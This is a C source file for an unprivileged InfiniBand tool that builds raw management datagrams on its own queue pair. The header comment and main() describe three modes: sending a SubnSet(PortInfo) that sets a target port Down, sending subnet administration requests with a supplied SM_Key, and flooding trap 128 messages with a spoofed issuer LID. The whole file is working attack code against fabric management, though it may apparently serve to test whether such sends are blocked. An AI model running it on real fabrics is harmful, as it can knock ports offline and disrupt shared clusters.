// SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause
/*
 * A program without privileges that sends management datagrams by a UD queue pair of its own:
 *
 *     datagrams smp LID PORT          a SubnSet(PortInfo) to QP0 of that LID, which would set the port down
 *     datagrams sa LID KEY COUNT      requests to subnet administration at that LID, with that SM_Key
 *     datagrams trap LID OWN COUNT    traps 128 to QP1 and QP0 of that LID, with issuer LID OWN
 */
#include <infiniband/verbs.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "must.h"
#include "rc.h"

#define MAD   256
#define DEPTH 64
#define GSI   0x80010000u

struct sender {
	struct ibv_pd *pd;
	struct ibv_cq *cq;
	struct ibv_qp *qp;
	struct ibv_ah *ah;
	struct ibv_mr *mr;
	unsigned char *mad;
	int under_way;
};

static void put(unsigned char *at, int bytes, uint64_t value)
{
	while (bytes--) {
		at[bytes] = value & 0xff;
		value >>= 8;
	}
}

static void sender_open(struct sender *s, uint16_t lid)
{
	struct ibv_device **list = ibv_get_device_list(NULL);
	struct ibv_context *ctx = list && list[0] ? ibv_open_device(list[0]) : NULL;
	struct ibv_qp_init_attr init = { .qp_type = IBV_QPT_UD, .cap = { DEPTH, 1, 1, 1, 0 } };
	struct ibv_ah_attr to = { .dlid = lid, .port_num = 1 };

	must(ctx != NULL, "a device");
	s->pd = ibv_alloc_pd(ctx);
	s->cq = ibv_create_cq(ctx, DEPTH, NULL, NULL, 0);
	must(s->pd && s->cq, "a completion queue");
	init.send_cq = init.recv_cq = s->cq;
	s->qp = ibv_create_qp(s->pd, &init);
	must(s->qp && !ud_to_rts(s->qp, GSI), "a queue pair");
	s->ah = ibv_create_ah(s->pd, &to);
	s->mad = calloc(1, MAD);
	s->mr = ibv_reg_mr(s->pd, s->mad, MAD, 0);
	must(s->ah && s->mr, "an address");
}

static void drain(struct sender *s, int left)
{
	struct ibv_wc wc;

	while (s->under_way > left) {
		int n = ibv_poll_cq(s->cq, 1, &wc);

		must(n >= 0 && (!n || !wc.status), "a completion");
		s->under_way -= n;
	}
}

static void sender_post(struct sender *s, uint32_t qpn, uint32_t qkey)
{
	struct ibv_sge sge = { (uintptr_t)s->mad, MAD, s->mr->lkey };
	struct ibv_send_wr wr = {
		.sg_list = &sge, .num_sge = 1, .opcode = IBV_WR_SEND, .send_flags = IBV_SEND_SIGNALED
	};
	struct ibv_send_wr *bad;

	wr.wr.ud.ah = s->ah;
	wr.wr.ud.remote_qpn = qpn;
	wr.wr.ud.remote_qkey = qkey;
	drain(s, DEPTH - 1);
	must(!ibv_post_send(s->qp, &wr, &bad), "a send");
	s->under_way++;
}

/* Base version, class, class version, method, attribute. */
static void header(unsigned char *mad, int class, int version, int method, int attr)
{
	mad[0] = 1;
	mad[1] = class;
	mad[2] = version;
	mad[3] = method;
	put(mad + 8, 8, 0x1234);
	put(mad + 16, 2, attr);
}

int main(int argc, char **argv)
{
	const char *what = argc > 3 ? argv[1] : "";
	struct sender s = { 0 };
	int count = argc > 4 ? atoi(argv[4]) : 1, i;

	if (argc < 4)
		return 2;
	sender_open(&s, (uint16_t)atoi(argv[2]));
	if (!strcmp(what, "smp")) {
		header(s.mad, 1, 1, 2, 0x15);
		put(s.mad + 20, 4, (uint64_t)atoi(argv[3]));
		s.mad[64 + 32] = 1; /* PortState: Down */
	} else if (!strcmp(what, "sa")) {
		header(s.mad, 3, 2, 1, 0x35);
		put(s.mad + 36, 8, (uint64_t)atoi(argv[3]));
	} else {
		header(s.mad, 1, 1, 5, 2);
		s.mad[64] = 0x81;  /* generic, urgent */
		s.mad[64 + 3] = 2; /* of a switch */
		put(s.mad + 64 + 4, 2, 128);
		put(s.mad + 64 + 6, 2, (uint64_t)atoi(argv[3]));
		put(s.mad + 64 + 10, 2, (uint64_t)atoi(argv[3]));
	}
	for (i = 0; i < count; i++) {
		sender_post(&s, strcmp(what, "sa") != 0 ? 0 : 1, GSI);
		if (!strcmp(what, "trap"))
			sender_post(&s, 1, GSI);
	}
	drain(&s, 0);
	printf("sent %d\n", count);
	return 0;
}
